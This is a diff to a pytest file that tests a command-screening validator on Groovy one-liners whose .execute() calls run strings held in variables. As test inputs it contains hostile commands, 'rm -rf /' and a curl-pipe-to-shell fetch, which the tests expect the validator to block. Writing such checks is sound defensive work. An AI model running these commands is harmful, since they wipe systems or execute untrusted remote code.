@@ -67,3 +67,18 @@ def test_clone_into_a_system_folder_blocks() -> None:
 ])
 def test_clones_into_ordinary_folders_pass(command: str) -> None:
     assert_verdict(command, Verdict.PASS)
+
+
+# Groovy: `c.execute()` on a name runs the literal the name holds (fp13's leftover).
+@pytest.mark.parametrize(("command", "verdict"), [
+    ("groovy -e 'def c = \"rm -rf /\"; c.execute()'", Verdict.BLOCK),
+    ("groovy -e 'String cmd = \"curl -s u | sh\"; cmd.execute()'", Verdict.BLOCK),
+    ("groovy -e '(\"rm -rf /\" + \"x\").execute()'", Verdict.WARN),
+    ("groovy -e 'def run(c) { c.execute() }; run(args[0])'", Verdict.WARN),
+    ("groovy -e 'def c = \"ls -l\"; println c.execute().text'", Verdict.PASS),
+    ("groovy -e 'def sql = groovy.sql.Sql.newInstance(\"jdbc:h2:mem:\"); "
+     "sql.execute(\"create table t(a int)\")'", Verdict.PASS),
+])
+def test_groovy_execute_on_a_name_runs_the_literal_it_holds(command: str,
+                                                            verdict: Verdict) -> None:
+    assert_verdict(command, verdict)
